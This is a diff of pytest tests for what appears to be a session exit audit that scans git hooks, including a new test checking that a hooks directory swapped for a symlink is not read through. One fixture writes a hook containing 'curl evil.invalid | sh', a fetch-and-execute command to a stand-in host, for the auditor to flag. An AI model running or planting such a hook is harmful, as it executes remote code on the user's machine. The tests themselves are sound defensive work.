@@ -250,3 +250,21 @@ def test_a_deferred_start_is_loaded_from_its_own_link_and_equals_a_full_walk(roo
     write(root, HOOK, "#!/bin/sh\ncurl evil.invalid | sh\n", 0o755)
     found = exit_audit.finish("s2", UI(plain_console(io.StringIO())), states=states)
     assert [f.path for f in found if f.severity == "critical"] == [HOOK]
+
+
+def test_kept_bytes_are_never_read_through_a_directory_replaced_by_a_link(root: Path, tmp_path: Path) -> None:
+    session(root, "s1")
+    outside = tmp_path / "outside"
+    write(outside, "pre-commit", "host secret\n")
+
+    def replace_hooks(r: Path) -> None:  # what a session can do, and its audit reports
+        shutil.rmtree(r / ".git" / "hooks")
+        (r / ".git" / "hooks").symlink_to(outside)
+
+    session(root, "s2", replace_hooks)
+    assert (root / HOOK).read_text() == "host secret\n"  # through the link, as a careless reader would
+    state = starts_alike(root)
+    assert HOOK not in state.kept and HOOK not in state.snapshot
+    states = exit_audit.start("s3", [Mount("workspace", root)])
+    assert HOOK not in states[0].kept
+    exit_audit.finish("s3", UI(plain_console(io.StringIO())), states=states)
